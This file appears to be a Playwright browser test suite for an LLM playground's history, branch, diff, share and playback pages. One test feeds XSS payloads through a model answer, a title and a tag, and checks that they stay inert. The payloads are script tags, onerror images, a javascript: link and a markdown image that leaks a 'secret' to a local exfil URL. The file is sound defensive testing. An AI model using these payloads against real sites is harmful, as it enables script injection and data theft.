"""In a real browser: the history sidebar, branches, diff, playback and share pages; an answer full
of XSS payloads stays inert on the share view and the playground page."""

import pytest
from playwright.sync_api import expect

from playground.conversations.models import Audience, ShareLink, Visibility
from tests.factories import continue_run, make_run, make_session
from tests.live import ARTIFACTS

pytestmark = pytest.mark.browser

XSS_ANSWER = """Here you go:
<script>alert(1)</script>
<img src=x onerror=alert(1)>
[click me](javascript:alert(1))
![i](http://127.0.0.1:9/exfil?q=secret)
"""


def screenshot(page, name):
    ARTIFACTS.mkdir(exist_ok=True)
    # caret="initial": hiding the caret injects a style Playwright's way, which the CSP reports.
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=False, caret="initial")


def watch_for_attacks(page):
    """Dialogs opened and requests to the exfiltration port, as they happen."""
    seen = {"dialogs": [], "port9": []}
    page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: seen["port9"].append(request.url) if ":9/" in request.url else None)
    return seen


def test_it_renders_an_xss_answer_inert_on_the_share_view_and_the_playground(signed_in_page, live_server_url):
    page = signed_in_page
    session = make_session(page.user, title="<img src=x onerror=alert(1)>", tags=["<script>alert(1)</script>"])
    make_run(session, "<script>alert(1)</script> please", XSS_ANSWER)
    _link, token = ShareLink.issue(session, user=page.user, audience=Audience.ANYONE)
    seen = watch_for_attacks(page)

    page.goto(f"{live_server_url}/sessions/shared/{token}/")
    expect(page.locator(".choice-text.md")).to_contain_text("Here you go")
    expect(page.locator(".choice-text.md a.md-image")).to_have_text("[image: i]")
    assert page.locator(".choice-text.md script, .choice-text.md img").count() == 0
    assert page.locator("a[href^='javascript:']").count() == 0
    page.goto(f"{live_server_url}/s/{session.public_id}/")
    expect(page.locator(".choice-text")).to_contain_text("Here you go", timeout=10_000)
    expect(page.locator(f"#session-{session.public_id} .session-title")).to_contain_text("<img src=x onerror=alert(1)>")
    expect(page.locator(".run-node-prompt")).to_contain_text("<script>alert(1)</script> please")
    page.wait_for_timeout(500)
    assert page.locator("a[href^='javascript:']").count() == 0
    assert seen == {"dialogs": [], "port9": []}


def test_it_searches_the_history_and_deletes_with_undo(signed_in_page, live_server_url):
    page = signed_in_page
    page.goto(f"{live_server_url}/")
    expect(page.locator("#history-list")).to_contain_text("No saved sessions yet.")
    screenshot(page, "sessions-sidebar-empty")
    for number, (title, answer) in enumerate([("Birds of the coast", "The kingfisher dives."), ("Rivers of Europe", "The Danube is long."),
                                              ("Soup ideas", "Minestrone, with beans.")]):
        session = make_session(page.user, title=title, tags=["ideas"] if number == 2 else [], visibility=Visibility.WORKSPACE if number else "private")
        make_run(session, f"Tell me about {title.lower()}", answer, model="gpt-4o-mini" if number else "o3")
    page.reload()
    expect(page.locator(".session-item")).to_have_count(3)
    expect(page.locator(".session-item").first).to_contain_text("Soup ideas")
    screenshot(page, "sessions-sidebar-list")

    page.fill("#history-q", "danube")
    expect(page.locator(".session-item")).to_have_count(1)
    expect(page.locator(".session-item")).to_contain_text("Rivers of Europe")
    screenshot(page, "sessions-sidebar-search")
    page.click(".history-filters > summary")
    page.select_option("#history-status", "completed")
    expect(page.locator(".session-item")).to_have_count(1)
    screenshot(page, "sessions-sidebar-filters")
    page.click("#history-reset")
    page.fill("#history-q", "zeppelin")
    expect(page.locator("#history-list")).to_contain_text("No session matches.")
    page.fill("#history-q", "")
    expect(page.locator(".session-item")).to_have_count(3)

    item = page.locator(".session-item", has_text="Birds of the coast")
    item.hover()
    item.locator(".session-more > summary").click()
    screenshot(page, "sessions-sidebar-menu")
    item.locator(".session-delete").click()
    expect(page.locator(".session-item.is-deleted")).to_contain_text("Deleted “Birds of the coast”.")
    page.locator(".session-undo").click()
    expect(page.locator(".session-item", has_text="Birds of the coast")).to_contain_text("Restored.")
    assert page.console_errors == []


def test_it_loads_a_branch_into_the_editor(signed_in_page, live_server_url):
    page = signed_in_page
    session = make_session(page.user, title="Fruit")
    first = make_run(session, "Name a fruit", "Apple")
    continue_run(first, "Another one", "Banana")
    continue_run(first, "A red one", "Cherry", temperature=0.4)
    page.goto(f"{live_server_url}/s/{session.public_id}/")
    expect(page.locator(".run-node")).to_have_count(3, timeout=10_000)
    expect(page.locator(".session-runs-head")).to_contain_text("3 runs · 2 branches")
    expect(page.locator(".session-item.is-current")).to_contain_text("Fruit")
    screenshot(page, "sessions-run-tree")
    page.locator(".run-node", has_text="A red one").locator(".run-node-load").click()
    expect(page.locator("#f-temperature")).to_have_value("0.4")
    expect(page.locator(".message .message-content").last).to_have_value("Cherry")
    expect(page.locator(".run-node.is-loaded")).to_contain_text("A red one")
    assert page.console_errors == []


def test_it_shows_the_diff_share_and_playback_pages(signed_in_page, live_server_url):
    page = signed_in_page
    session = make_session(page.user, title="Haiku")
    old = make_run(session, "A haiku about rain", "Soft rain on the roof\nthe old cat sleeps by the fire\nspring is almost here", temperature=0.2)
    new = make_run(session, "A haiku about rain", "Cold rain on the roof\nthe young cat sleeps by the door\nspring is almost here",
                   temperature=1.1, seed=42, chunk_times=[0.2, 0.4, 0.6, 0.8])
    page.goto(f"{live_server_url}/sessions/diff?a={old.public_id}&b={new.public_id}")
    expect(page.locator("#word-diff del").first).to_have_text("Soft")
    expect(page.locator("#word-diff ins").first).to_have_text("Cold")
    expect(page.locator(".param-diff")).to_contain_text("temperature")
    expect(page.locator(".param-diff td.unset")).to_have_text("unset")
    screenshot(page, "sessions-diff")

    page.goto(f"{live_server_url}/sessions/{session.public_id}/share")
    page.check("input[value=anyone]")
    page.click("text=Make link")
    url = page.input_value("#share-url")
    screenshot(page, "sessions-share-settings")
    page.goto(url)
    expect(page.locator(".shared-run")).to_have_count(2)
    screenshot(page, "sessions-shared")

    page.goto(f"{live_server_url}/sessions/runs/{new.public_id}/playback")
    # It opens on the answer, still to come in faint text, rather than on an empty box.
    expect(page.locator("#playback-ahead")).to_have_text(new.choices[0]["content"])
    expect(page.locator("#playback-note")).to_contain_text("4 chunks over 0.80 s")
    page.check("input[value=instant]")
    page.click("#playback-play")
    expect(page.locator("#playback-played")).to_have_text(new.choices[0]["content"])
    expect(page.locator("#playback-ahead")).to_have_text("")
    expect(page.locator("#playback-play")).to_have_text("Play again")
    screenshot(page, "sessions-playback")
    assert page.console_errors == []
